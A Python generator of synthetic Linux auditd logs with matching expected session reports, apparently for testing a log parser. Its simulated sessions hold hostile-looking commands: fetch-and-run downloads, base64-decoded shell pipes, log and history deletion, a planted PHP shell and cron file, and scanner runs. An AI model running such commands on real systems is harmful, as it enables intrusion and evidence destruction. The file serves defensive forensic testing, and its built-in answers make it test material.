"""Synthetic Linux audit logs (auditd raw or enriched format) with the session report they imply.

build(seed, **opts) -> (log text, expected report dict)
"""
import posixpath
import random

UNSET = 4294967295
BINARIES = {
    "ls": "/usr/bin/ls", "cat": "/usr/bin/cat", "curl": "/usr/bin/curl", "python3": "/usr/bin/python3.11",
    "tar": "/usr/bin/tar", "chmod": "/usr/bin/chmod", "id": "/usr/bin/id", "sudo": "/usr/bin/sudo",
    "bash": "/usr/bin/bash", "cp": "/usr/bin/cp", "sh": "/usr/bin/dash", "base64": "/usr/bin/base64",
    "crontab": "/usr/bin/crontab", "ssh-keygen": "/usr/bin/ssh-keygen", "find": "/usr/bin/find",
}
USERS = [("mlopez", 1004), ("dchen", 1007), ("backup", 1012), ("ops admin", 1020), ("k.ivanova", 1031)]


def enc(s, force=False):
    """auditd's encoding of an untrusted string: quoted, or hex when it holds a space, a quote, control or
    non-ASCII bytes."""
    b = s.encode() if isinstance(s, str) else s
    if force or any(c <= 0x20 or c >= 0x7F or c == 0x22 for c in b):
        return b.hex().upper()
    return '"' + b.decode() + '"'


class Log:
    def __init__(self, rng, enriched, t0):
        self.rng, self.enriched, self.t = rng, enriched, t0
        self.serial = rng.randrange(1000, 90000)
        self.pending = []  # events whose records are still being written: lists of lines

    def stamp(self):
        self.t += self.rng.randrange(1, 4000) / 1000
        self.serial += self.rng.randrange(1, 6)
        return f"audit({self.t:.3f}:{self.serial})", self.t, self.serial

    def flush_some(self, out, all_=False):
        """write events' records, interleaving the records of events in flight"""
        while self.pending and (all_ or len(self.pending) > 2):
            k = self.rng.randrange(len(self.pending)) if len(self.pending) > 1 else 0
            ev = self.pending[k]
            n = self.rng.randint(1, len(ev))
            out.extend(ev[:n])
            del ev[:n]
            if not ev:
                del self.pending[k]


def gs(fields):
    return "\x1d" + " ".join(f"{k}={v}" for k, v in fields)


def build(seed, *, enriched=False, nsessions=3, long_args=True, many_args=True, odd_cwd=True, interleave=True,
          hex_user=False):
    rng = random.Random(seed)
    log = Log(rng, enriched, rng.randrange(1_760_000_000, 1_790_000_000) + rng.random())
    out = []
    sessions = []
    users = rng.sample(USERS, nsessions)
    if hex_user and ("ops admin", 1020) not in users:
        users[-1] = ("ops admin", 1020)
    ses_ids = rng.sample(range(1, 900), nsessions)
    live = []
    pid_next = rng.randrange(2000, 9000)

    def emit(lines):
        if interleave:
            log.pending.append(lines)
            log.flush_some(out)
        else:
            out.extend(lines)

    def syscall(sc, success, exit_, ppid, pid, auid, ses, comm, exe, a=None, items=1, uid=0):
        a = a or ["0"] * 4
        line = (f"arch=c000003e syscall={sc} success={'yes' if success else 'no'} exit={exit_} a0={a[0]} a1={a[1]} "
                f"a2={a[2]} a3={a[3]} items={items} ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} euid={uid} "
                f"suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={'pts' + str(ses % 7) if ses != UNSET else '(none)'} "
                f"ses={ses} comm={enc(comm)} exe={enc(exe)} subj=unconfined key=(null)")
        if log.enriched:
            line += gs([("ARCH", "x86_64"), ("SYSCALL", {59: "execve", 257: "openat", 263: "unlinkat", 316: "renameat2"}.get(sc, "read")),
                        ("AUID", '"' + (dict((u[1], u[0]) for u in USERS).get(auid, "unset")) + '"'), ("UID", '"root"')])
        return line

    def noise():
        nonlocal pid_next
        pid_next += rng.randrange(1, 40)
        m, _, _ = log.stamp()
        pr = rng.choice(["/usr/sbin/cron", "/usr/lib/systemd/systemd-journald", "/usr/sbin/rsyslogd"])
        lines = [f"type=SYSCALL msg={m}: " + syscall(257, True, 3, 1, pid_next, UNSET, UNSET, pr.rsplit('/', 1)[1], pr,
                                                      ["ffffff9c", "7ffc1a2b", "80241", "1b6"], 2),
                 f"type=CWD msg={m}: cwd=\"/\"",
                 f"type=PATH msg={m}: item=0 name=\"/var/log/\" inode=131073 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
                 f"type=PATH msg={m}: item=1 name=\"/var/log/syslog.{rng.randrange(9)}\" inode={rng.randrange(10**6)} dev=08:01 mode=0100640 ouid=0 ogid=4 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
                 f"type=PROCTITLE msg={m}: proctitle={enc(pr, True)}"]
        emit(lines)

    for (user, uid), ses in zip(users, ses_ids):
        pid_next += rng.randrange(50, 400)
        sshd = pid_next
        m, t, _ = log.stamp()
        addr = f"203.0.113.{rng.randrange(2, 250)}" if user != "backup" else "?"
        term = "ssh" if addr != "?" else "cron"
        acct = enc(user)
        msg = (f"type=USER_START msg={m}: pid={sshd} uid=0 auid={uid} ses={ses} subj=unconfined "
               f"msg='op=PAM:session_open grantors=pam_unix,pam_systemd acct={acct} exe=\"/usr/sbin/{'sshd' if term == 'ssh' else 'cron'}\" "
               f"hostname={addr} addr={addr} terminal={term} res=success'")
        if log.enriched:
            msg += gs([("UID", '"root"'), ("AUID", '"' + user + '"')])
        emit([msg])
        s = {"ses": ses, "auid": uid, "user": user, "addr": None if addr == "?" else addr, "start": t,
             "commands": [], "created": [], "deleted": [], "_cwd": f"/home/{user}", "_shell": None, "_sshd": sshd}
        sessions.append(s)
        live.append(s)

    def new_pid():
        nonlocal pid_next
        pid_next += rng.randrange(1, 30)
        return pid_next

    def do_exec(s, argv, cwd=None):
        cwd = cwd or s["_cwd"]
        name = argv[0].rsplit("/", 1)[-1]
        exe = BINARIES.get(name, "/usr/bin/" + name)
        pid = new_pid()
        ppid = s["_shell"] or s["_sshd"]
        m, t, serial = log.stamp()
        lines = [f"type=SYSCALL msg={m}: " + syscall(59, True, 0, ppid, pid, s["auid"], s["ses"], name, exe,
                                                      ["55d0c1e0", "55d0c2a0", "55d0c310", "0"], 2, uid=s["auid"])]
        # EXECVE: split into several records when there are many args; long args in hex pieces
        parts, cur = [], [f"argc={len(argv)}"]
        size = 0
        for i, arg in enumerate(argv):
            b = arg.encode()
            if len(b) > 7500 or (long_args and len(b) > 2000):
                pieces = [b[k:k + 1500] for k in range(0, len(b), 1500)]
                toks = [f"a{i}_len={len(b)}"] + [f"a{i}[{k}]={p.hex().upper()}" for k, p in enumerate(pieces)]
            else:
                toks = [f"a{i}={enc(arg)}"]
            for tok in toks:
                if size + len(tok) > 6000 and len(cur) > 0:
                    parts.append(cur)
                    cur, size = [], 0
                cur.append(tok)
                size += len(tok) + 1
        parts.append(cur)
        for p in parts:
            lines.append(f"type=EXECVE msg={m}: " + " ".join(p))
        lines.append(f"type=CWD msg={m}: cwd={enc(cwd)}")
        lines.append(f"type=PATH msg={m}: item=0 name={enc(argv[0])} inode={rng.randrange(10**6)} dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        lines.append(f"type=PATH msg={m}: item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=1311 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        title = b"\0".join(a.encode() for a in argv)[:128]
        ptitle = enc(title, b" " in title or b"\0" in title)
        lines.append(f"type=PROCTITLE msg={m}: proctitle={ptitle}")
        emit(lines)
        s["commands"].append({"serial": serial, "pid": pid, "ppid": ppid, "exe": exe, "argv": list(argv),
                              "cwd": cwd, "_t": t})
        return pid

    def do_failed_exec(s, cmd):
        m, t, serial = log.stamp()
        pid = new_pid()
        lines = [f"type=SYSCALL msg={m}: " + syscall(59, False, -2, s["_shell"] or s["_sshd"], pid, s["auid"], s["ses"],
                                                      "bash", "/usr/bin/bash", None, 1, uid=s["auid"]),
                 f"type=CWD msg={m}: cwd={enc(s['_cwd'])}",
                 f"type=PATH msg={m}: item=0 name={enc('/usr/local/bin/' + cmd)} nametype=UNKNOWN cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
                 f"type=PROCTITLE msg={m}: proctitle=\"-bash\""]
        emit(lines)

    def do_file(s, op, name, name2=None, success=True):
        m, t, serial = log.stamp()
        cwd = s["_cwd"]
        sc = {"create": 257, "delete": 263, "rename": 316}[op]
        a = ["ffffff9c", "7ffd3a10", "241" if op == "create" else "0", "1a4" if op == "create" else "0"]
        items = 2 if op != "rename" else 4
        lines = [f"type=SYSCALL msg={m}: " + syscall(sc, success, 3 if success else -13, s["_shell"], new_pid(),
                                                      s["auid"], s["ses"], "bash", "/usr/bin/bash", a, items, uid=s["auid"]),
                 f"type=CWD msg={m}: cwd={enc(cwd)}"]

        def path_recs(start, nm, nt):
            d = posixpath.dirname(nm) or "."
            return [f"type=PATH msg={m}: item={start} name={enc(d + '/' if d != '.' else cwd + '/')} inode=2 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
                    f"type=PATH msg={m}: item={start + 1} name={enc(nm)} inode={rng.randrange(10**6)} dev=08:01 mode=0100644 ouid={s['auid']} ogid={s['auid']} rdev=00:00 nametype={nt} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"]
        if op == "create":
            lines += path_recs(0, name, "CREATE")
        elif op == "delete":
            lines += path_recs(0, name, "DELETE")
        else:
            lines += path_recs(0, name, "DELETE") + path_recs(2, name2, "CREATE")
        lines.append(f"type=PROCTITLE msg={m}: proctitle=\"-bash\"")
        emit(lines)
        if success:
            absn = lambda n: posixpath.normpath(posixpath.join(cwd, n))
            if op in ("delete", "rename"):
                s["deleted"].append((t, serial, absn(name)))
            if op in ("create", "rename"):
                s["created"].append((t, serial, absn(name2 if op == "rename" else name)))

    # each session: a login shell, then a sequence of activities, sessions interleaved in time
    for s in sessions:
        s["_shell"] = do_exec(s, ["bash", "--login"])
    steps = []
    for s in sessions:
        for _ in range(rng.randrange(6, 11)):
            steps.append(s)
    rng.shuffle(steps)
    for s in steps:
        r = rng.random()
        if r < 0.08:
            noise()
        if r < 0.35:
            argv = rng.choice([["ls", "-la"], ["id"], ["cat", "/etc/passwd"], ["find", "/", "-perm", "-4000"],
                               ["curl", "-s", "-o", "/tmp/.x", "http://198.51.100.7/s h.sh"],
                               ["python3", "-c", "import os; print(os.getuid())"],
                               ["tar", "czf", "out.tgz", "Documents"], ["chmod", "+x", "run me.sh"],
                               ["sudo", "-n", "true"], ["cat", "notes \"q4\".txt"], ["base64", "-d", "blob"]])
            do_exec(s, argv)
        elif r < 0.45 and long_args:
            payload = "echo " + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
                                        for _ in range(rng.randrange(2500, 9000))) + " | base64 -d | sh"
            do_exec(s, ["bash", "-c", payload])
        elif r < 0.52 and many_args:
            do_exec(s, ["ssh-keygen", "-l"] + [f"/home/{s['user']}/.ssh/key_{i:04d}.pub" for i in range(rng.randrange(200, 400))])
        elif r < 0.6 and odd_cwd:
            s["_cwd"] = rng.choice([f"/home/{s['user']}/My Files", "/tmp/.ICE-unix/ ", "/var/tmp/çache", "/srv/www/html"])
            do_exec(s, ["ls"])
        elif r < 0.72:
            name = rng.choice(["payload.sh", "../.hidden/cfg", "/etc/cron.d/sync", "out dir/file.txt",
                               "./x.bin", "/var/www/html/sh.php", "a/./b/../c.txt"])
            do_file(s, "create", name, success=rng.random() < 0.85)
        elif r < 0.8:
            do_file(s, "delete", rng.choice(["/var/log/auth.log", "payload.sh", "../.bash_history"]))
        elif r < 0.88:
            do_file(s, "rename", "payload.sh", rng.choice(["/usr/local/bin/sync-helper", ".cache/.k"]))
        else:
            do_failed_exec(s, rng.choice(["nmap", "masscan", "pspy64"]))
    for s in sessions:
        m, t, _ = log.stamp()
        line = (f"type=USER_END msg={m}: pid={s['_sshd']} uid=0 auid={s['auid']} ses={s['ses']} subj=unconfined "
                f"msg='op=PAM:session_close grantors=pam_unix acct={enc(s['user'])} exe=\"/usr/sbin/sshd\" "
                f"hostname=? addr=? terminal=ssh res=success'")
        emit([line])
    log.flush_some(out, all_=True)

    report = {"sessions": []}
    for s in sorted(sessions, key=lambda s: s["start"]):
        def dedupe(evs):
            seen, res = set(), []
            for _, _, p in sorted(evs):
                if p not in seen:
                    seen.add(p)
                    res.append(p)
            return res
        cmds = sorted(s["commands"], key=lambda c: (c["_t"], c["serial"]))
        report["sessions"].append({
            "ses": s["ses"], "auid": s["auid"], "user": s["user"], "addr": s["addr"],
            "commands": [{k: v for k, v in c.items() if not k.startswith("_")} for c in cmds],
            "created": dedupe(s["created"]), "deleted": dedupe(s["deleted"])})
    return "\n".join(out) + "\n", report
